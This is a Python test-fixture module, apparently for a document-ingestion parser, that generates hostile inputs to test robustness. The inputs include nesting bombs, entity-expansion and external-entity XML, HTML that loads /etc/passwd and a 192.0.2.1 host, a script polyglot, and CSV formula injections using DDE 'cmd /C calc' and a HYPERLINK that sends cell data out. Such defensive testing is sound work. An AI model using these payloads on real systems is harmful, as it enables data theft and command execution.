"""Texts, web pages, tables and rubbish made to hurt their reader."""

from __future__ import annotations

import random

from ingest import sniff
from tests.hostile.containers import LAUGHS, PARAMETER, PASSWD, QUADRATIC


def zero_bytes() -> bytes:
    return b""


def one_byte() -> bytes:
    return b"\x00"


def only_white_space() -> bytes:
    return b" \n\t" * 100_000


def after_magic(magic: bytes, size: int = 3_000) -> bytes:
    """Random bytes after the first bytes of a known kind of file."""
    return magic + random.Random(magic).randbytes(size)


MAGICS = (
    *(magic for magic, _ in sniff._MAGIC),
    *(b"%PDF-1.7\n", b"PK\x03\x04", b"PK\x05\x06", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
    *(
        b"\x30\x82\xff\xff\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02",
        b"MIIABCDEFGHIJKLMNOP" * 4,
        b"\xff\xfe",
    ),
    *(
        b"<!doctype html><p>",
        b"<?xml version='1.0'?>",
        b"From: a\nMIME-Version: 1\n\n",
        b"# Titolo\n\n",
        b"a;b\n",
    ),
)


def html_of_nested_divs() -> bytes:
    return b"<html><body>" + b"<div>" * 100_000 + b"In fondo c'e' un testo." + b"</div>" * 100_000


def html_of_nested_tables() -> bytes:
    return b"<html><body>" + b"<table><tr><td>" * 20_000 + b"In fondo." + b"</table>" * 20_000


def html_of_nested_lists() -> bytes:
    return b"<html><body>" + b"<ul><li>voce " * 30_000


def html_of_sixty_thousand_attributes() -> bytes:
    return b"<html><body><p " + b"".join(b"a%d=1 " % n for n in range(60_000)) + b">Testo.</p></body></html>"


def html_of_headings() -> bytes:
    return b"<html><body>" + b"".join(b"<h%d>T%d</h%d>" % (n % 6 + 1, n, n % 6 + 1) for n in range(3_000))


def html_with_laughs() -> bytes:
    return f"{LAUGHS}<html><body><p>&a10; Testo della pagina.</p></body></html>".encode()


def html_that_loads_everything() -> bytes:
    links = (
        '<img src="file:///etc/passwd"><iframe src="http://192.0.2.1/"></iframe><base href="//192.0.2.1/">'
    )
    meta = '<meta http-equiv="refresh" content="0;url=http://192.0.2.1/"><link href="//192.0.2.1">'
    return f"<html><head>{meta}</head><body>{links}<p>Testo della pagina.</p></body></html>".encode()


def html_that_never_ends_a_comment() -> bytes:
    return b"<html><body><p>Testo prima.</p>" + b"<!--" * 500_000


def gif_and_html() -> bytes:
    return b"GIF89a/*<html><script>*/=1;alert(1)</script><body><p>Testo.</p></body></html>"


def svg_with_entities() -> bytes:
    return f'<?xml version="1.0"?>{PASSWD}<svg xmlns="http://www.w3.org/2000/svg"><text>&f;</text></svg>'.encode()


def xml_billion_laughs() -> bytes:
    return f'<?xml version="1.0"?>{LAUGHS}<x>&a10;</x>'.encode()


def xml_quadratic() -> bytes:
    return f'<?xml version="1.0"?>{QUADRATIC}<x>{"&q;" * 50_000}</x>'.encode()


def xhtml_with_entities() -> bytes:
    return f'<?xml version="1.0"?>{PARAMETER}<html><body><p>Testo della pagina.</p></body></html>'.encode()


def xml_a_hundred_thousand_deep() -> bytes:
    return b"<?xml version='1.0'?>" + b"<a>" * 100_000 + b"</a>" * 100_000


def json_a_hundred_thousand_deep() -> bytes:
    return b"[" * 100_000 + b"]" * 100_000


def rtf_of_nested_groups() -> bytes:
    return b"{\\rtf1 " + b"{\\b " * 200_000 + b"testo" + b"}" * 200_000 + b"}"


def rtf_with_an_endless_number() -> bytes:
    return b"{\\rtf1 Testo.\\par\\fs" + b"9" * 10_000 + b" ancora\\par}"


def rtf_with_a_binary_hole() -> bytes:
    return b"{\\rtf1 Prima.\\par\\bin2147483647 " + b"x" * 1000 + b"}"


def rtf_of_objects() -> bytes:
    return b"{\\rtf1 Testo.\\par{\\object\\objemb{\\*\\objdata " + b"d0cf11e0" * 100_000 + b"}}}"


def rtf_of_tables() -> bytes:
    row = rb"\trowd\cellx1000\cellx2000 voce\cell {\b valore}\cell\row"
    lists = rb"{\*\listtext 1.\tab}\ls1\ilvl0 punto\par{\field{\*\fldinst HYPERLINK a}{\fldrslt legame}}"
    head = rb"{\rtf1\ansi\ansicpg1252{\fonttbl{\f0 Arial;}}\fs24 Perch\'e9 \u8364? si.\par"
    return head + row * 9 + lists + b"}"


def markdown_of_everything() -> bytes:
    text = b"# Titolo\n\nTesto **forte** e [un legame](http://a.invalid).\n\n1. uno\n   - due\n\n"
    table = b"| a | b |\n|---|---|\n| 1 | 2 |\n\n> detto\n\n```\ncodice\n```\n\n"
    return b"---\ntitle: Nota\n---\n" + text + table + b"<table><tr><td>x</td></tr></table>\n"


def text_of_one_word() -> bytes:
    return b"a" * 20_000_000


def text_of_brackets() -> bytes:
    return b"[a" * 5_000


def text_of_colons() -> bytes:
    return (b"1." * 100 + b":\n") * 50


def text_of_dots() -> bytes:
    return b". " * 3_000_000


def text_of_combining_marks() -> bytes:
    return ("a" + "\u0301" * 10_000 + "\n").encode()


def text_of_bidirectional_marks() -> bytes:
    return ("Importo \u202e00.001\u202c euro \u2066nascosto\u2069 \u200bfine.\n" * 100).encode()


def text_of_emoji() -> bytes:
    return ("Testo con 😀 e altro. " * 500).encode()


def text_with_terminal_codes() -> bytes:
    return b"\x1b]0;titolo\x07\x1b[2J\x1b[31mTesto\x1b[0m da terminale.\n" * 50


def text_like_an_act_without_end() -> bytes:
    return b"VISTO il D.Lgs. 18 agosto 2000, n. 267, art. 107, comma 3, lett. a);\n" * 200


def text_of_digits() -> bytes:
    return b"1234567890" * 1_000


def markdown_of_quotes() -> bytes:
    return b"# Titolo\n\n" + b">" * 200_000 + b" testo\n\n" + b"- " * 100_000


def markdown_of_links() -> bytes:
    return b"# Titolo\n\n**a** **b**\n" + b"[" * 3_000 + b"](" * 3_000


def markdown_of_emphasis() -> bytes:
    return b"# Titolo\n\n**a**\n" + b"*a_ **b__ " * 800


def csv_of_a_million_columns() -> bytes:
    return b"nome;valore\n" + b"voce;1\n" * 20 + b"voce;1;" * 5_000 + b";" * 990_000 + b"\n"


def csv_of_one_line() -> bytes:
    return b"nome;valore\n" + b"parola " * 2_600_000 + b";1\n"


def csv_of_formulas() -> bytes:
    rows = (
        '=HYPERLINK("http://192.0.2.1/?"&A1;"clic")',
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        '=DDE("cmd";"/C calc";"")',
        '+IMPORTXML("http://192.0.2.1/")',
    )
    return "".join(["nome;valore\n", *(f"voce {n};{row}\n" for n, row in enumerate(rows))]).encode()


def csv_of_open_quotes() -> bytes:
    return b'a;b\n1;2\n3;4\n5;"' + b"testo;\n" * 3_000


def csv_of_a_million_rows() -> bytes:
    return b"a;b\n" + b"1;2\n" * 1_000_000


def utf16_cut_in_two() -> bytes:
    return ("Testo in UTF-16. " * 100).encode("utf-16")[:-1] + b"\xd8"
